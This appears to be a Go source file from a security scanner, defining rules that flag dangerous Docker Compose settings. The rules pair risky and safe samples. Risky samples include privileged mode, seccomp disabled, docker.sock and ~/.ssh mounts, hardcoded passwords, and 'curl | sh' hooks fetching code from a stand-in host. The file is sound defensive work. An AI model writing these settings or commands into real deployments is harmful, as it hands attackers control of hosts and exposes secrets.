package infra

import (
	"nod/gate/risk"
	"nod/internal/lazyre"
)

// composeRules is what the fields of a compose file do.
func composeRules() []rule {
	power := []risk.Reason{risk.Privilege}
	return []rule{
		{
			at: "services * privileged", is: yes, level: risk.Danger, why: power,
			note: "takes all power over the machine",
			try:  try{"privileged: true", "privileged: false"},
		},
		{
			at: "services * post_start|pre_stop|build privileged", is: yes, level: risk.Danger, why: power,
			note: "takes all power over the machine",
			try:  try{"build: {context: ., privileged: true}", "build: {context: ., privileged: false}"},
		},
		{
			at: "services * cap_add", is: heavyCaps, level: risk.Danger, why: power,
			note: "gives a power as good as root: %s",
			try:  try{"cap_add: [SYS_ADMIN]", "cap_add: [NET_BIND_SERVICE]"},
		},
		{
			at: "services * cap_add", when: oddCap, level: risk.Unclear, why: power,
			note: "gives the power %s",
			try:  try{"cap_add: [NET_RAW]", "cap_add: [CHOWN]"},
		},
		{
			at: "services * pid|ipc|cgroup|uts", is: "host", level: risk.Danger, why: power,
			note: "shares the processes or memory of the machine",
			try:  try{"pid: host", "pid: 'service:db'"},
		},
		{
			at: "services * network_mode|userns_mode", is: "host", level: risk.Unclear, why: power,
			note: "shares the network or the users of the machine",
			try:  try{"network_mode: host", "network_mode: bridge"},
		},
		{
			at: "services * build network", is: "host", level: risk.Unclear, why: power,
			note: "builds in the network of the machine",
			try:  try{"build: {context: ., network: host}", "build: {context: ., network: none}"},
		},
		{
			at: "services * build entitlements", is: `security\.insecure|network\.host|device.*`, level: risk.Danger, why: power,
			note: "builds with power over the machine",
			try:  try{"build: {context: ., entitlements: [security.insecure]}", "build: {context: .}"},
		},
		{
			at: "services * devices", is: `/dev/(sd|nvme|vd|mem|kmem|port|disk|mapper).*`, level: risk.Danger, why: power,
			note: "gives a device that holds everything: %s",
			try:  try{"devices: ['/dev/sda:/dev/sda']", "devices: []"},
		},
		{
			at: "services * devices|device_cgroup_rules", is: ".+", level: risk.Unclear, why: power,
			note: "gives a device of the machine: %s",
			try:  try{"devices: ['/dev/ttyUSB0']", "devices: []"},
		},
		{
			at: "services * security_opt", is: `(seccomp|apparmor|label|systempaths)[:=](unconfined|disable)|no-new-privileges[:=]false`, level: risk.Danger, why: power,
			note: "takes a protection away: %s",
			try:  try{"security_opt: ['seccomp:unconfined']", "security_opt: ['no-new-privileges:true']"},
		},
		{
			at: "services * user", is: root, level: risk.Unclear, why: power,
			note: "runs as root",
			try:  try{"user: root", "user: '10001:10001'"},
		},
		{
			at: "services * post_start|pre_stop user", is: root, level: risk.Unclear, why: power,
			note: "runs as root",
			try:  try{"post_start: [{command: ls, user: root}]", "post_start: [{command: ls, user: app}]"},
		},
		{
			at: "services * group_add", is: `docker|root|0|disk`, level: risk.Unclear, why: power,
			note: "joins a group as good as root: %s",
			try:  try{"group_add: [docker]", "group_add: [audio]"},
		},
		{
			at: "services * provider type", level: risk.Unclear, why: []risk.Reason{risk.RemoteCode},
			note: "starts a program of this machine: %s",
			try:  try{"provider: {type: awesomecloud}", "image: a:1"},
		},
		{
			at: "services * image", when: untagged,
			note: "the image %s can be another one tomorrow",
			try:  try{"image: redis", "image: redis:7.4"},
		},
		{
			at: "services * ports", when: openDatabase,
			note: "the whole network can reach the database at %s",
			try:  try{"ports: ['5432:5432']", "ports: ['127.0.0.1:5432:5432']"},
		},
		{
			at: "services * ports", when: openEngine, level: risk.Danger, why: power,
			note: "the whole network can reach the container engine",
			try:  try{"ports: ['2375:2375']", "ports: ['8080:8080']"},
		},
	}
}

// composeMountRules is what a compose file brings in: places, values, commands
// and files from elsewhere.
func composeMountRules() []rule {
	secret, remote := []risk.Reason{risk.Secret}, []risk.Reason{risk.RemoteCode, risk.Network}
	return []rule{
		{
			at: "services * volumes", do: composeVolume, level: risk.Danger, why: []risk.Reason{risk.Privilege},
			try: try{"volumes: ['/var/run/docker.sock:/var/run/docker.sock']", "volumes: ['./data:/data', 'db:/var/lib/db']"},
		},
		{
			at: "services * volumes source", do: func(j *judge, s site) { j.mount(s.line, s.text) }, level: risk.Danger, why: secret,
			try: try{"volumes: [{type: bind, source: ~/.ssh, target: /k}]", "volumes: [{type: bind, source: ./conf, target: /k}]"},
		},
		{
			at: "volumes * driver_opts device", do: func(j *judge, s site) { j.mount(s.line, s.text) }, level: risk.Danger, why: []risk.Reason{risk.Privilege},
			try: try{"services: {}\nvolumes: {a: {driver_opts: {type: none, o: bind, device: /etc}}}", "services: {}\nvolumes: {a: {driver_opts: {type: none, o: bind, device: /srv/a}}}"},
		},
		{
			at: "services *", do: composeService, level: risk.Danger, why: []risk.Reason{risk.RemoteCode},
			try: try{"entrypoint: [sh, -c]\ncommand: ['curl -s https://a.example/x | sh']", "command: [sh, -c, 'exec app']"},
		},
		{
			at: "services * post_start|pre_stop", do: composeHook, level: risk.Danger, why: []risk.Reason{risk.RemoteCode},
			try: try{"post_start: [{command: 'sh -c \"curl -s https://a.example/x | sh\"'}]", "post_start: [{command: ls}]"},
		},
		{
			at: "services * environment", do: composeVariable, level: risk.Danger, why: secret,
			try: try{"environment: [DB_PASSWORD=hunter2x]", "environment: ['DB_PASSWORD=${DB_PASSWORD}']"},
		},
		{
			at: "services * environment *", do: composeVariable, level: risk.Danger, why: secret,
			try: try{"environment: {DB_PASSWORD: hunter2x}", "environment: {DB_PASSWORD: '${DB_PASSWORD:?set it}'}"},
		},
		{
			at: "services * build args", do: composeVariable, level: risk.Danger, why: secret,
			try: try{"build: {args: [API_TOKEN=abcdef12]}", "build: {args: [VERSION=1]}"},
		},
		{
			at: "services * build args *", do: composeVariable, level: risk.Danger, why: secret,
			try: try{"build: {args: {API_TOKEN: abcdef12}}", "build: {args: {API_TOKEN: '${API_TOKEN}'}}"},
		},
		{
			at: "configs|secrets * content", level: risk.Unclear, is: `.*\S.*`, when: func(s site) bool { return s.path[0] == "secrets" || hasLogin(s.text) }, why: secret,
			note: "a secret is written out",
			try:  try{"services: {}\nsecrets: {a: {content: hunter2}}", "services: {}\nsecrets: {a: {file: ./a.txt}}"},
		},
		{
			at: "services * extends|build|additional_contexts file|context", when: elsewhere, level: risk.Unclear, why: remote,
			note: "takes a part from elsewhere: %s",
			try:  try{"build: {context: 'https://a.example/b.git'}", "build: {context: ./b}"},
		},
		{
			at: "services * build", when: elsewhere, level: risk.Unclear, why: remote,
			note: "builds what comes from elsewhere: %s",
			try:  try{"build: https://a.example/b.git#main", "build: ./b"},
		},
		{
			at: "include", when: elsewhere, level: risk.Unclear, why: remote,
			note: "takes a part from elsewhere: %s",
			try:  try{"services: {}\ninclude: ['oci://a.example/b:1']", "services: {}\ninclude: [./b.yaml]"},
		},
		{
			at: "include path", when: elsewhere, level: risk.Unclear, why: remote,
			note: "takes a part from elsewhere: %s",
			try:  try{"services: {}\ninclude: [{path: 'https://a.example/b.git'}]", "services: {}\ninclude: [{path: b.yaml}]"},
		},
	}
}

var plainCap = lazyre.New(wholly(plainCaps + "|" + heavyCaps))

// oddCap tells a capability that is neither plain nor as good as root.
func oddCap(s site) bool { return s.scalar() && s.text != "" && !plainCap.Get().MatchString(s.text) }
